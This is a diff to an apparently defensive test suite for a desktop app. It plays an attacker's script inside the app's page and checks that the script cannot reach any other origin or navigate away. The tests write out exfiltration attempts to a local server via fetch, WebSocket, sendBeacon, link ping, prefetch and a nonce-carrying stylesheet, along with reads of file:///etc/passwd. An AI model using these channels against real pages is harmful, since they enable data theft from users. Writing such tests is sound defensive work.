@@ -1,6 +1,5 @@
-import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { projectFolder } from '../../build/runtime/cache.mjs'
 import { fillApplication, startApplication } from '../../build/demo/journey.ts'
@@ -9,6 +8,7 @@ import { makeAuthority } from '../integration/partner-support/office-network.ts'
 import { Cleanup } from '../integration/relay-support/program.ts'
 import { TestOffice } from './support/office.ts'
 import { secretsOf } from './support/secrets.ts'
+import { welcomingServer } from './support/welcoming-server.ts'
 
 // The page's script is an attacker's here, who has all that the app's own script has: docs/security.md says what that is.
 
@@ -19,6 +19,8 @@ const CHANGING =
   'send set settle start stop submit switch take test tie try undo unlock'
 const changes = (channel: string) => CHANGING.split(' ').includes(channel.split(/[._]/)[1] ?? '')
 
+/** Within which a request that is on its way comes to a server on this computer. */
+const LONG_ENOUGH_MS = 300
 const UNKNOWN = '00000000-0000-4000-8000-000000000000'
 
 describe('a script of an attacker in the app’s own page', () => {
@@ -124,42 +126,43 @@ describe('a script of an attacker in the app’s own page', () => {
     }
   })
 
-  it('reaches no other origin', async () => {
-    const there = office.sandbox.jwks_url
-    const at = JSON.stringify(there)
-    const refused = await Promise.all(
+  it('reaches no other origin, by whatever a page can ask with, though that would answer all it is asked', async () => {
+    const other = await welcomingServer(cleanup)
+    const at = (way: string) => JSON.stringify(`${other.origin}/${way}?what-the-page-knows`)
+    const by = (made: string) => `new Promise((yes, no) => {
+      const one = ${made}
+      one.onload = one.onopen = one.onmessage = () => yes('reached')
+      one.onerror = () => no(new TypeError())
+    })`
+    const element = (name: string, set: string) =>
+      by(`Object.assign(document.head.appendChild(document.createElement('${name}')), ${set})`)
+    const nonce = `document.querySelector('meta[name="csp-nonce"]').content`
+    const said = await Promise.all(
       [
-        `fetch(${at})`,
-        `fetch(${at}, { mode: 'no-cors', method: 'POST', body: 'x' })`,
-        'fetch("file:///etc/passwd")',
+        `fetch(${at('fetch')}).then(({ status }) => status)`,
+        `fetch(${at('blind')}, { mode: 'no-cors', method: 'POST', body: 'x' }).then(({ type }) => type)`,
+        by(`new EventSource(${at('events')})`),
+        by(`new WebSocket(${at('socket').replace('http', 'ws')})`),
+        by(`Object.assign(new Image(), { src: ${at('image')} })`),
+        element('script', `{ src: ${at('script')} }`),
+        // Which the policy lets through, for the sake of the page's own styles.
+        element('link', `{ nonce: ${nonce}, rel: 'stylesheet', href: ${at('style')} }`),
+        element('video', `{ src: ${at('video')} }`),
+        'fetch("file:///etc/passwd").then(({ status }) => status)',
         'fetch("app://elsewhere/index.html").then((answer) => { if (!answer.ok) throw new TypeError() })',
-        `new Promise((_, no) => { const s = new EventSource(${at}); s.onerror = () => no(new TypeError()) })`,
-        `new Promise((_, no) => { const s = new WebSocket(${at.replace('http', 'ws')}); s.onerror = () => no(new TypeError()) })`,
-        `new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new TypeError()); i.src = ${at} })`,
       ].map(attempt),
     )
-    expect(refused).toEqual(refused.map(() => 'TypeError'))
-  })
-
-  it('reaches none by what the policy lets through either: a style sheet that carries the nonce of the page', async () => {
-    const asked: string[] = []
-    const server = createServer(({ url = '' }, response) => {
-      asked.push(url)
-      response.writeHead(200, { 'content-type': 'text/css' }).end('body { --reached: 1 }')
-    })
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-    const { port } = server.address() as AddressInfo
-    const load = await attempt(`new Promise((done) => {
-      const link = document.createElement('link')
-      link.rel = 'stylesheet'
-      link.nonce = document.querySelector('meta[name="csp-nonce"]').content
-      link.href = 'http://127.0.0.1:${port}/what-the-page-knows'
-      link.onload = () => done('loaded')
-      link.onerror = () => done('refused')
-      document.head.append(link)
-    })`)
-    server.close()
-    expect([load, asked]).toEqual(['refused', []])
+    expect(said).toEqual(said.map(() => 'TypeError'))
+    await attempt(`(() => {
+      navigator.sendBeacon(${at('beacon')}, 'x')
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ${at('prefetch')} }))
+      const click = Object.assign(document.createElement('a'), { href: '#/', ping: ${at('ping')} })
+      document.body.append(click)
+      click.click()
+      click.remove()
+    })()`)
+    await sleep(LONG_ENOUGH_MS)
+    expect(other.asked).toEqual([])
   })
 
   it('gets nothing from the app’s own address but the page’s files', async () => {
@@ -224,22 +227,27 @@ describe('a script of an attacker in the app’s own page', () => {
   })
 
   it('neither navigates away nor opens a window elsewhere', async () => {
+    const other = await welcomingServer(cleanup)
     const before = office.page.url()
-    const places = ['https://example.com/', 'file:///etc/passwd', 'data:text/html,x', 'javascript:1']
+    const places = [`${other.origin}/go`, 'file:///etc/passwd', 'data:text/html,x', 'javascript:1']
     for (const place of places) {
       const to = JSON.stringify(place)
       // oxlint-disable-next-line no-await-in-loop
       await inPage(`void window.open(${to})`)
       // oxlint-disable-next-line no-await-in-loop
       await inPage(`void (location.href = ${to})`).catch(() => {})
+      // oxlint-disable-next-line no-await-in-loop
+      await sleep(LONG_ENOUGH_MS)
     }
     await inPage(`(() => {
       const form = document.createElement('form')
-      form.action = 'https://example.com/'
+      form.action = '${other.origin}/form'
       document.body.append(form)
       form.submit()
       form.remove()
     })()`)
+    await sleep(LONG_ENOUGH_MS)
+    expect(other.asked).toEqual([])
     expect(await inPage('typeof fundingDesk.call')).toBe('function')
     expect(office.page.url()).toBe(before)
     expect(office.app.application.windows()).toHaveLength(1)
